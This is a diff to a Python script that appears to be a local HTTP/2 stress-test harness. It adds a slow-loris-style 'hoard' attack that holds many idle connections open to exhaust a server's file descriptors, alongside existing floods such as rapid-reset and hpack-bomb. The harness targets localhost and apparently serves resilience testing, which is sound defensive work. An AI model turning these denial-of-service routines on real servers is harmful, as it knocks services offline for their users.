@@ -12,12 +12,14 @@ is opened again, as an attacker would.
 
 Attacks (ATTACKS below has one line on each): rapid-reset, stream-flood,
 continuation-flood, big-header, hpack-bomb, ping-flood, settings-flood,
-empty-data-flood, zero-window, never-read, churn. Prints one JSON line:
+empty-data-flood, zero-window, never-read, churn, hoard (--connections
+idle connections held open). Prints one JSON line:
 streams opened, frames sent, connections opened, GOAWAYs received.
 """
 
 import argparse
 import json
+import resource
 import socket
 import struct
 import sys
@@ -385,9 +387,34 @@ def churn(port: int, seconds: float, max_connections: int) -> dict:
     return {"streams": 0, "bytes": 0, "connections_opened": opened, "goaways": 0}
 
 
+def hoard(port: int, seconds: float, connections: int) -> dict:
+    """`connections` connections opened as fast as they are accepted, each
+    sending the preface and SETTINGS and then nothing, all held until the
+    time is up: an idle client multiplied, as a slow-loris attack does it,
+    to take the server's file descriptors."""
+    # The attacker needs a descriptor per connection too.
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, connections + 64)), hard))
+    deadline = time.monotonic() + seconds
+    held = []
+    while time.monotonic() < deadline and len(held) < connections:
+        try:
+            sock = socket.create_connection(("127.0.0.1", port), timeout=1)
+            sock.sendall(PREFACE + SettingsFrame(0).serialize())
+        except OSError:
+            time.sleep(0.01)
+            continue
+        held.append(sock)
+    opened = len(held)
+    time.sleep(max(0.0, deadline - time.monotonic()))
+    for sock in held:
+        sock.close()
+    return {"streams": 0, "bytes": 0, "connections_opened": opened, "goaways": 0}
+
+
 def main():
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
-    parser.add_argument("attack", choices=[*ATTACKS, "churn"])
+    parser.add_argument("attack", choices=[*ATTACKS, "churn", "hoard"])
     parser.add_argument("--port", type=int, required=True)
     parser.add_argument("--connections", type=int, default=8)
     parser.add_argument("--seconds", type=float, default=6.0)
@@ -396,6 +423,8 @@ def main():
     args = parser.parse_args()
     if args.attack == "churn":
         result = churn(args.port, args.seconds, args.max_streams)
+    elif args.attack == "hoard":
+        result = hoard(args.port, args.seconds, args.connections)
     else:
         result = run(ATTACKS[args.attack](args.port), args.port, args.connections, args.seconds,
                      args.max_streams)
